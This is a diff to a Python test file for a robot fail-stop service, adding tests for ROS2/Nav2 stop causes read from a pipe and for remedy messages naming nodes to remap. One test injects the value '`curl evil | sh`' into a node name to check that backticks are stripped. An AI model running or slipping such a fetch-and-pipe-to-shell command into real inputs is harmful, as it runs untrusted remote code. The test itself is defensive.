@@ -30,7 +30,7 @@ from tests.support.states import latched, state
 ROOT = Path(failstop.__file__).resolve().parent.parent
 FOLDERS = ("failstop", "procs", "shm", "supervisor", "bench")
 KINDS = tuple(BY_NUMBER.values())
-ASKED = (causes.REQUESTED, causes.PIPED, causes.FLEET)
+ASKED = {*causes.SIGNED, causes.PIPED, causes.FLEET}
 NAMES = [kind.name for kind in KINDS]
 TEMPLATES = {kind.template for kind in KINDS}
 VALUES: dict[type, st.SearchStrategy[str | int | float]] = {
@@ -271,6 +271,46 @@ def test_no_bytes_in_the_pipe_do_either(line: bytes) -> None:
     asked(line)
 
 
+@pytest.mark.parametrize("row", causes.SIGNED, ids=lambda row: row.name)
+def test_a_client_s_cause_comes_through_the_pipe_and_has_a_remedy_of_its_own(row: Kind) -> None:
+    found = asked(records.asking("/nav, /joy", "ros2", 77, "" if row is causes.REQUESTED else row.name)[:-1])
+    assert found == row("/nav, /joy", "ros2", 77)
+    assert "/nav, /joy" in causes.bare(found)
+    assert "ros2" not in causes.bare(found)
+    assert causes.remedied(found) not in {kind.remedy for kind in causes.SIGNED if kind is not row}
+
+
+@pytest.mark.parametrize("name", ["died", "", "\t", "ros_publishers ", "ROS_PUBLISHERS", "requested\t"])
+def test_no_other_name_in_the_pipe_makes_a_cause_of_the_service_s_own(name: str) -> None:
+    assert asked(b"/nav, /joy\tros2\t77\t" + name.encode()).kind in (causes.PIPED, causes.REQUESTED)
+
+
+BT, DOCK, SMOOTHER, MONITOR = "/behavior_server", "/docking_server", "/velocity_smoother", "/collision_monitor"
+
+
+@pytest.mark.parametrize(
+    ("nodes", "others"),
+    [
+        (f"{BT} (4 times), {SMOOTHER}", BT),  # navigation_launch.py of Humble: each behavior has its own publisher
+        (f"{MONITOR}, {DOCK}", DOCK),  # of Jazzy
+        (f"{BT}, {MONITOR}, {SMOOTHER}", f"{BT}, {SMOOTHER}"),
+        (f"/robot1{BT}, /robot1{SMOOTHER}", f"/robot1{BT}"),
+        ("/nav, /joystick", "all but one of /nav, /joystick"),
+        (f"{SMOOTHER} (2 times)", f"all but one of {SMOOTHER} (2 times)"),
+        (SMOOTHER, f"all but one of {SMOOTHER}"),
+        ("", "all but one of "),
+    ],
+)
+def test_the_remedy_for_several_nodes_on_cmd_vel_names_those_to_remap(nodes: str, others: str) -> None:
+    remedy = causes.remedied(causes.ROS_PUBLISHERS(nodes, "ros2", 77))
+    assert remedy.startswith(f"remap cmd_vel of {others}: for a node of Nav2 to cmd_vel_nav, ")
+
+
+def test_a_name_in_a_remedy_types_no_command() -> None:
+    found = asked(b"/nav, `curl evil | sh`\tros2\t77\tros_publishers")
+    assert "`" not in causes.remedied(found)
+
+
 def test_a_forged_sender_is_what_somebody_says() -> None:
     """Any local user may write the line of the fleet's publisher, or anybody's."""
     for line, name in ((b"smoke\tfleet:ann\t1", "the fleet"), (b"smoke\tann\t1", "ann")):
@@ -298,12 +338,13 @@ def test_who_asks_is_told_whatever_the_words_look_like(words: str, who: str, pid
     name = records.cut(name, records.WHO_BYTES).decode()
     found = asked(records.asking(words, who, pid)[:-1])
     wanted = [records.printable(text.encode("utf-8", "replace").decode()).replace('"', "'") for text in (said, name)]
+    wanted = [text.replace("`", "'") for text in wanted]
     assert found == (causes.REQUESTED(*wanted, pid) if name else causes.PIPED(wanted[0]))
 
 
 def test_no_cause_of_the_service_s_own_begins_as_a_request() -> None:
     begins = [kind for kind in KINDS if kind.template.startswith("stop request")]
-    assert begins == list(ASKED)
+    assert set(begins) == ASKED
     assert [kind.name for kind in KINDS if kind not in ASKED and str(example(kind)).startswith("stop request")] == []
 
 
